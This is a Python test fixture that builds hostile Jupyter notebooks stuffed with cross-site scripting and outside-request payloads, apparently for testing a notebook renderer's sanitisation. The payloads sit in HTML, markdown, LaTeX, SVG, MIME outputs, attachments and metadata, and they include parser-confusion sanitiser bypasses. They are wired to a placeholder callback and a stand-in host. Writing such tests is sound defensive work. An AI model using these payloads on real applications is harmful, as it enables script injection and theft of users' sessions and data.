"""What a hostile notebook may hold, as cells.

Each payload carries its number: as a script it calls `top.run` with it, as a request it asks
http://elsewhere.test for it.
"""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

ELSEWHERE = "http://elsewhere.test/"

# RUN stands for a script in double or no quotes, ASK for an address elsewhere.
HTML = (
    "<script>RUN</script>",
    "<script src=ASK></script>",
    "<img src=x onerror=RUN>",
    "<img src='ASK'>",
    "<img src=ASK srcset='ASK 2x'>",
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><image href='ASK'/><use href='ASK#x'/></svg>",
    '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe src='ASK'></iframe>",
    "<object data='ASK'></object><embed src='ASK'>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<style>@import 'ASK'; body { background: url(ASK) }</style>",
    "<p style='background: url(ASK)'>x</p>",
    "<link rel=stylesheet href='ASK'><link rel=preload as=image href='ASK'>",
    "<meta http-equiv=refresh content='0;url=ASK'>",
    "<base href='ASK'>",
    "<form action='ASK'><button autofocus onfocus=RUN>Grade</button></form>",
    "<input autofocus onfocus=RUN><select autofocus onfocus=RUN><textarea autofocus onfocus=RUN>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<video autoplay src='ASK' onerror=RUN poster='ASK'></video><audio src='ASK' autoplay></audio>",
    "<body onload=RUN background='ASK'>",
    "<table background='ASK'><tr><td background='ASK'>x</table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=RUN&gt;'></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<template><script>RUN</script></template><div><template shadowrootmode=open>"
    "<img src=x onerror=RUN></template></div>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "</main></div></body><script>RUN</script>",
    "<p title='--><script>RUN</script>'>x</p><!-- <img title='--><img src=x onerror=RUN>' -->",
    "<marquee onstart=RUN>x</marquee><x onanimationstart=RUN style='animation: x 1s'>",
    "<a href='javascript:RUN'>see</a><a href='data:text/html,<script>RUN</script>'>see</a>"
    "<a href='evil.html'>see</a><a href='/formgrader/api/assignments'>see</a>"
    "<a href=' &#x6a;avascript:RUN'>see</a><a ping='ASK' href='https://example.org'>see</a>",
)
MARKDOWN = (
    "[see](javascript:RUN) [see](<java\nscript:RUN>) [see](data:text/html;base64,PHN2Zz4=)",
    "![see](ASK) ![see](javascript:RUN)",
    "[see]: ASK\n\n![see][see] <ASK>",
    "`</code><script>RUN</script>`",
    "```\n</code></pre><script>RUN</script>\n```",
    '``` "><img/src=x/onerror=RUN>\nx\n```',
    "$\\href{javascript:RUN}{x}$ $\\text{<img src=x onerror=RUN>}$",
    '$$\\class{" onmouseover=RUN}{x} \\style{background:url(ASK)}{x}$$',
    "$\\unicode{<img src=x onerror=RUN>}$ \\(<script>RUN</script>\\)",
    "\\begin{align}</annotation-xml><script>RUN</script>\\end{align}",
    "<div title='\n\n$\\text{\" onmouseover=RUN x=}$\n\n'>",
    "x\n\n| a |\n|--|\n| <script>RUN</script> |",
    "<p\n\nonclick=RUN>x</p>\n\n<img\nsrc=x\nonerror=RUN\n//",
)
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"RUN\"><script>RUN</script>\
<image href='ASK'/><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='ASK'/>\
</foreignObject></svg>"
OUTPUTS: tuple[dict[str, Any], ...] = (
    {"application/javascript": "RUN"},
    {"text/html": "<script>RUN</script>", "text/plain": "<script>RUN</script>"},
    {"image/svg+xml": _SVG},
    {"image/png": "x' onerror='RUN"},
    {"image/png": '"><script>RUN</script>'},
    {"image/jpeg": base64.b64encode(b"<script>RUN</script>").decode()},
    {"text/latex": "$\\href{javascript:RUN}{x}$<img src=x onerror=RUN>"},
    {"text/latex": "<script>RUN</script>"},
    {"text/markdown": "<img src=x onerror=RUN> [x](javascript:RUN)"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>RUN</script>"}},
    {"application/vnd.vega.v5+json": {"data": [{"url": "ASK"}]}},
    {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": "ASK"}]}}},
    {"text/vnd.mermaid": 'graph TD; A["<img src=x onerror=RUN>"]'},
    {"application/pdf": "JVBERi0="},
    {"text/x-unknown</pre><script>RUN</script>": "x"},
)


def _filled(value: Any, number: int) -> Any:
    if isinstance(value, dict):
        return {_filled(k, number): _filled(v, number) for k, v in value.items()}
    if isinstance(value, list):
        return [_filled(one, number) for one in value]
    return value.replace("RUN", f"top.run({number})").replace("ASK", f"{ELSEWHERE}{number}")


def fragments() -> list[str]:
    """The HTML payloads, each as a piece of a page."""
    return [_filled(one, n) for n, one in enumerate(HTML)]


def count() -> int:
    return len(_cells(lambda cell: cell))


def hostile_cells() -> list[NotebookNode]:
    """Every payload in every place that takes it."""
    return _cells(lambda cell: cell)


def _cells(kept: Any) -> list[NotebookNode]:
    cells: list[NotebookNode] = []

    def number() -> int:
        return len(cells)

    def shown(data: Any, **more: Any) -> NotebookNode:
        cell = new_code_cell("show()", execution_count=1, **more)
        cell.outputs = [new_output("display_data", data)]
        return cell

    for text in (*HTML, *MARKDOWN):
        cells.append(new_markdown_cell(_filled(text, number())))
    for text in HTML:
        cells.append(shown({"text/html": _filled(text, number())}))
    for data in OUTPUTS:
        cells.append(shown(_filled(data, number())))
    for text in HTML[:4]:
        cells.append(new_raw_cell(_filled(text, number()), metadata={"raw_mimetype": "text/html"}))
        code = new_code_cell(_filled(text, number()))
        escaped = f"\x1b[31m{_filled(text, number())}\x1b[0m\x1b]8;;javascript:1\x07x\x1b]8;;\x07"
        code.outputs = [
            new_output("stream", name="stdout", text=escaped),
            new_output("error", ename=escaped, evalue=escaped, traceback=[escaped]),
        ]
        cells.append(code)
    attack = _filled("'\"><img src=x onerror=RUN>", number())
    attached = new_markdown_cell("![x](attachment:a.png) ![x](attachment:b.svg)")
    attached["attachments"] = {
        "a.png": {"image/png": attack},
        "b.svg": {"image/svg+xml": _filled(_SVG, number())},
    }
    cells.append(attached)
    isolated = shown({"text/html": _filled("<script>RUN</script>", number())})
    isolated.outputs[0].metadata = {
        "text/html": {"isolated": True},
        "image/png": {"width": _filled("1 onload=RUN", number()), "alt": attack},
        "filenames": {"image/png": attack},
    }
    cells.append(isolated)
    tagged = shown({"text/plain": "x"})
    tagged.metadata = NotebookNode(
        tags=[attack], name=attack, alt=attack, magics_language=attack, slideshow={"x": attack}
    )
    cells.append(tagged)
    return [kept(cell) for cell in cells]


def hostile_notebook() -> NotebookNode:
    """All of it in one notebook, widgets' state and a title besides."""
    attack = _filled("</script><script>RUN</script>", 999)
    notebook = new_notebook(cells=hostile_cells())
    notebook.metadata = NotebookNode(
        title=attack,
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": attack}}},
        language_info={"name": "python", "pygments_lexer": "ipython3"},
        kernelspec={"name": "python3", "display_name": "Python 3", "language": "python"},
    )
    return notebook
